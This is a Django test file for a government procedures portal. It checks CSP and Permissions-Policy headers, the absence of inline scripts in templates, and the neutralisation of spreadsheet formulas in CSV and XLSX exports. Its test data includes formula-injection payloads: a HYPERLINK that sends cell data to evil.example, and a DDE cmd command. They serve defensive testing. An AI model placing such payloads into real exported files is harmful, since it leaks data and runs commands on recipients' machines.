"""Issue 19, item 7: a Content-Security-Policy with no inline script, a Permissions-Policy, and
export cells that no spreadsheet runs as a formula."""

import csv
import io
import re
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from django.conf import settings
from django.urls import reverse
from openpyxl import load_workbook

from portal.exports import csv_bytes, safe_cell, unquote_cell
from procedures.importing.export import export_procedures
from procedures.importing.parse import read_rows
from procedures.selectors import procedures_managed_by
from tests.dossiers.factories import DossierFactory
from tests.procedures.factories import published_version

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "=cmd|' /C calc'!A0", "\t=1+1"]


def directives(header):
    return {part.split()[0]: part.split()[1:] for part in header.split(";") if part.strip()}


def test_pages_carry_a_csp_without_inline_script_and_a_permissions_policy(client, db):
    response = client.get(reverse("procedures:catalogue"))
    policy = directives(response["Content-Security-Policy"])
    assert policy["script-src"] == ["'self'"]
    assert "'unsafe-inline'" not in policy["script-src"] and "'unsafe-eval'" not in policy["script-src"]
    assert policy["object-src"] == ["'none'"] and policy["frame-ancestors"] == ["'none'"]
    assert policy["default-src"] == ["'self'"] and policy["base-uri"] == ["'self'"]
    assert "camera=()" in response["Permissions-Policy"] and "geolocation=()" in response["Permissions-Policy"]


def test_a_served_file_keeps_its_own_sandbox_policy(client_for, clerk, org):
    from dossiers.models import DossierFile

    dossier = DossierFactory(receiving_unit=org.c1)
    stored = DossierFile.objects.create(dossier=dossier, file="dossiers/test/x.pdf", original_name="x.pdf",
                                        content_type="application/pdf", size=5, sha256="0" * 64)
    from django.core.files.storage import default_storage

    default_storage.save("dossiers/test/x.pdf", io.BytesIO(b"%PDF-"))
    try:
        response = client_for(clerk).get(reverse("workflow:dossier_file", args=[dossier.code, stored.pk]))
        assert response["Content-Security-Policy"].startswith("sandbox;")
    finally:
        default_storage.delete("dossiers/test/x.pdf")


INLINE_SCRIPT = re.compile(r"<script(?![^>]*\bsrc=)[^>]*>", re.I)
HANDLER = re.compile(r"\son[a-z]+\s*=", re.I)


def test_no_template_has_an_inline_script_or_event_handler():
    """The policy would block them: every behaviour is in static/js (portal.js data attributes)."""
    offenders = []
    for path in Path(settings.BASE_DIR, "templates").rglob("*.html"):
        text = path.read_text()
        offenders += [f"{path}: {m.group(0)}" for m in INLINE_SCRIPT.finditer(text)]
        offenders += [f"{path}: {m.group(0)}" for m in HANDLER.finditer(text)]
    assert offenders == []


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_like_text_is_neutralised_in_csv_and_comes_back_unchanged(value):
    cell = safe_cell(value)
    assert cell.startswith("'") and unquote_cell(cell) == value
    row = next(csv.reader(io.StringIO(csv_bytes(["a"], [[value]]).decode("utf-8-sig").split("\r\n", 1)[1])))
    assert row == [cell]


@pytest.mark.parametrize("value", ["Nguyễn Văn An", 12, -5, None, "", "Tổ 5 - phường Mỹ Hà", "a=b"])
def test_plain_values_are_left_alone(value):
    assert safe_cell(value) == value


def test_the_tracking_book_xlsx_writes_a_formula_named_applicant_as_text(client_for, clerk, org):
    import datetime

    DossierFactory(code="P01.20.01-261102-0001", receiving_unit=org.c1, applicant_name=FORMULAS[0],
                   applicant_address="@SUM(A1:A9)",
                   received_at=datetime.datetime(2026, 11, 2, 8, 5, tzinfo=ZoneInfo("Asia/Ho_Chi_Minh")))
    url = reverse("workflow:tracking_book") + f"?unit={org.c1.code}&format=xlsx&date_from=2026-11-01&date_to=2026-11-30"
    response = client_for(clerk).get(url)
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)
             and c.value.startswith(("=", "@"))]
    assert {c.value for c in cells} >= {FORMULAS[0]}, [c.value for c in cells]
    assert all(c.data_type == "s" for c in cells)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_catalogue_export_neutralises_and_round_trips_a_formula_like_name(editor, org, fmt):
    published_version(code="1.001193", name="=1+2 Đăng ký khai sinh", receiving=[org.c1])
    content, _type = export_procedures(procedures=procedures_managed_by(editor), fmt=fmt)
    if fmt == "csv":
        assert "'=1+2 Đăng ký khai sinh" in content.decode("utf-8-sig")
    else:
        sheet = load_workbook(io.BytesIO(content)).active
        cell = next(c for row in sheet.iter_rows() for c in row if c.value == "=1+2 Đăng ký khai sinh")
        assert cell.data_type == "s"
    rows = read_rows(content, fmt)
    assert rows[0][1]["ten_thu_tuc"] == "=1+2 Đăng ký khai sinh"
